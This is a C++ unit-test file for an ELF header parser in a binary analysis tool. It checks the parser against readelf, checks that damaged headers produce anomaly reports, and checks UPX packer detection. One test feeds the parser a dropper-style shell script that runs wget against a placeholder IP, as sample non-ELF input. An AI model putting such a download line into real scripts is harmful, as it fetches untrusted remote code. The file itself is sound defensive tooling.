#include "analysis/static/elf_info.h"

#include <gtest/gtest.h>

#include <cstdio>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <functional>
#include <map>
#include <memory>
#include <random>
#include <sstream>

namespace mitsu::analysis {
namespace {

namespace fs = std::filesystem;

std::vector<std::byte> read_file(const fs::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::vector<char> bytes((std::istreambuf_iterator<char>(in)), {});
  std::vector<std::byte> out(bytes.size());
  std::memcpy(out.data(), bytes.data(), bytes.size());
  return out;
}

std::string run(const std::string& command) {
  std::unique_ptr<FILE, int (*)(FILE*)> pipe(popen(command.c_str(), "r"), pclose);
  std::string out;
  char buffer[4096];
  while (pipe && std::fgets(buffer, sizeof buffer, pipe.get()) != nullptr) {
    out += buffer;
  }
  return out;
}

std::string readelf_field(const std::string& header, const std::string& field) {
  std::size_t at = header.find("  " + field + ":");
  if (at == std::string::npos) {
    return "";
  }
  std::size_t start = header.find_first_not_of(' ', at + field.size() + 3);
  return header.substr(start, header.find('\n', start) - start);
}

// Debian's cross libcs, by multiarch triple: the arch and ABI Mitsu must name for them.
const std::map<std::string, std::pair<std::string, std::string>> kTriples{
    {"arm-linux-gnueabi", {"arm", "EABI5 soft-float"}},
    {"arm-linux-gnueabihf", {"arm", "EABI5 hard-float"}},
    {"aarch64-linux-gnu", {"aarch64", ""}},
    {"mips-linux-gnu", {"mips", "o32 mips32r2"}},
    {"mipsel-linux-gnu", {"mipsel", "o32 mips32r2"}},
    {"mips64el-linux-gnuabi64", {"mips64el", "n64 mips64r2"}},
    {"powerpc-linux-gnu", {"powerpc", ""}},
    {"powerpc64le-linux-gnu", {"powerpc64le", "ELFv2"}},
    {"sh4-linux-gnu", {"sh4", ""}},
    {"m68k-linux-gnu", {"m68k", ""}},
    {"sparc64-linux-gnu", {"sparc64", ""}},
    {"riscv64-linux-gnu", {"riscv64", "double-float RVC"}},
    {"s390x-linux-gnu", {"s390x", ""}},
    {"i686-linux-gnu", {"i386", ""}},
    {"hppa-linux-gnu", {"hppa", ""}},
    {"x86_64-linux-gnux32", {"x32", ""}},
};

TEST(ElfInfo, AgreesWithReadelfOnDebianCrossLibraries) {
  fs::path root = fs::path(MITSU_ELF_CORPUS) / "root" / "usr";
  ASSERT_TRUE(fs::exists(root)) << "run scripts/fetch-elf-corpus.sh " << MITSU_ELF_CORPUS;
  std::map<std::string, int> checked;
  for (const auto& [triple, expected] : kTriples) {
    fs::path lib = root / triple / "lib";
    ASSERT_TRUE(fs::exists(lib)) << lib;
    int files = 0;
    for (const auto& entry : fs::directory_iterator(lib)) {
      if (!entry.is_regular_file() || entry.path().extension() == ".a" || files >= 12) {
        continue;
      }
      auto bytes = read_file(entry.path());
      if (bytes.size() < 4 || std::memcmp(bytes.data(),
                                          "\x7f"
                                          "ELF",
                                          4) != 0) {
        continue;  // linker scripts named .so
      }
      ++files;
      ElfInfo info = read_elf(bytes);
      std::string header = run("readelf -h '" + entry.path().string() + "' 2>/dev/null");
      SCOPED_TRACE(entry.path().string());
      EXPECT_EQ("ELF" + std::to_string(info.elf_class), readelf_field(header, "Class"));
      EXPECT_EQ(info.big_endian ? "2's complement, big endian" : "2's complement, little endian",
                readelf_field(header, "Data"));
      EXPECT_EQ(info.machine_name, readelf_field(header, "Machine"));
      EXPECT_EQ(info.arch, expected.first);
      if (!expected.second.empty()) {
        EXPECT_EQ(info.abi, expected.second);
      }
      EXPECT_TRUE(info.anomalies.empty()) << info.anomalies.front();
      EXPECT_TRUE(info.packer.empty());
      EXPECT_FALSE(info.section_names.empty());
    }
    checked[triple] = files;
    EXPECT_GE(files, 3) << triple;
  }
  EXPECT_EQ(checked.size(), kTriples.size());
}

TEST(ElfInfo, ClassifiesLinkage) {
  fs::path root = fs::path(MITSU_ELF_CORPUS) / "root" / "usr" / "arm-linux-gnueabi" / "lib";
  ElfInfo libc = read_elf(read_file(root / "libc.so.6"));
  EXPECT_EQ(libc.type_name, "DYN");
  EXPECT_EQ(libc.interpreter, "/lib/ld-linux.so.3");
  EXPECT_EQ(libc.linkage, "dynamic");
  ElfInfo loader = read_elf(read_file(root / "ld-linux.so.3"));
  EXPECT_NE(loader.linkage, "dynamic");
  EXPECT_TRUE(loader.interpreter.empty());
}

// A minimal 32-bit little-endian ARM executable header, to damage in the tests below.
std::vector<std::byte> tiny_elf() {
  std::vector<std::byte> b(52 + 32 + 64, std::byte{0});
  auto put16 = [&](std::size_t at, std::uint16_t v) {
    b[at] = std::byte(v & 0xFF);
    b[at + 1] = std::byte(v >> 8);
  };
  auto put32 = [&](std::size_t at, std::uint32_t v) {
    for (int i = 0; i < 4; ++i)
      b[at + i] = std::byte((v >> (8 * i)) & 0xFF);
  };
  std::memcpy(b.data(),
              "\x7f"
              "ELF\x01\x01\x01",
              7);
  put16(16, 2);   // EXEC
  put16(18, 40);  // ARM
  put32(20, 1);
  put32(24, 0x8000);
  put32(28, 52);          // phoff
  put32(36, 0x05000200);  // EABI5 soft-float
  put16(40, 52);
  put16(42, 32);        // phentsize
  put16(44, 1);         // phnum
  put32(52, 1);         // PT_LOAD
  put32(52 + 16, 100);  // filesz
  return b;
}

TEST(ElfInfo, ReadsAHandMadeHeader) {
  ElfInfo info = read_elf(tiny_elf());
  EXPECT_TRUE(info.is_elf);
  EXPECT_EQ(info.arch, "arm");
  EXPECT_EQ(info.abi, "EABI5 soft-float");
  EXPECT_EQ(info.entry, 0x8000u);
  EXPECT_EQ(info.load_segments, 1u);
  EXPECT_EQ(info.linkage, "static");
  EXPECT_TRUE(info.stripped);
  ASSERT_EQ(info.anomalies.size(), 1u);
  EXPECT_NE(info.anomalies[0].find("no section headers"), std::string::npos);
}

TEST(ElfInfo, DamagedHeadersGivePartialVerdictsWithAnomalies) {
  struct Damage {
    const char* name;
    std::function<void(std::vector<std::byte>&)> apply;
    const char* expected;
  };
  std::vector<Damage> cases{
      {"bad class", [](auto& b) { b[4] = std::byte{7}; }, "invalid EI_CLASS"},
      {"truncated", [](auto& b) { b.resize(30); }, "shorter than the ELF header"},
      {"phentsize", [](auto& b) { b[42] = std::byte{31}; }, "e_phentsize is 31"},
      {"segment past end", [](auto& b) { b[52 + 17] = std::byte{0x7f}; }, "segment 0"},
      {"phnum huge",
       [](auto& b) {
         b[44] = std::byte{0xff};
         b[45] = std::byte{0xff};
       },
       "program header table"},
      {"sections past end",
       [](auto& b) {
         b[32] = std::byte{0x10};  // shoff = 16 + …
         b[33] = std::byte{0x27};
         b[46] = std::byte{40};  // shentsize
         b[48] = std::byte{9};   // shnum
       },
       "section header table"},
      {"shentsize",
       [](auto& b) {
         b[32] = std::byte{84};
         b[46] = std::byte{3};
         b[48] = std::byte{1};
       },
       "e_shentsize is 3"},
  };
  for (const Damage& d : cases) {
    auto bytes = tiny_elf();
    d.apply(bytes);
    ElfInfo info = read_elf(bytes);
    EXPECT_TRUE(info.is_elf) << d.name;
    std::string all;
    for (const std::string& a : info.anomalies) {
      all += a + "; ";
    }
    EXPECT_NE(all.find(d.expected), std::string::npos) << d.name << ": " << all;
  }
}

TEST(ElfInfo, NotElfIsNotAnError) {
  std::string text = "#!/bin/sh\nwget http://192.0.2.1/x\n";
  ElfInfo info = read_elf(std::as_bytes(std::span(text)));
  EXPECT_FALSE(info.is_elf);
  EXPECT_TRUE(info.anomalies.empty());
}

TEST(ElfInfo, DetectsUpxWithAndWithoutItsMagic) {
  auto bytes = tiny_elf();
  std::mt19937 random(7);
  std::vector<std::byte> packed = bytes;
  for (int i = 0; i < 20000; ++i) {
    packed.push_back(std::byte(random() & 0xFF));  // compressed-looking payload
  }
  auto with = [&](std::string_view marker) {
    std::vector<std::byte> out = packed;
    std::memcpy(out.data() + 200, marker.data(), marker.size());
    return out;
  };
  ElfInfo magic = read_elf(with("UPX!"));
  EXPECT_EQ(magic.packer, "UPX");
  EXPECT_EQ(magic.packer_evidence, "UPX! magic");
  ElfInfo banner = read_elf(with("$Info: This file is packed with the UPX executable packer"));
  EXPECT_EQ(banner.packer, "UPX");
  EXPECT_NE(banner.packer_evidence.find("altered"), std::string::npos);
  ElfInfo layout = read_elf(packed);  // magic zeroed, banner removed
  EXPECT_EQ(layout.packer, "UPX");
  EXPECT_NE(layout.packer_evidence.find("entropy"), std::string::npos);
  EXPECT_TRUE(read_elf(bytes).packer.empty()) << "small plain file is not packed";
}

}  // namespace
}  // namespace mitsu::analysis
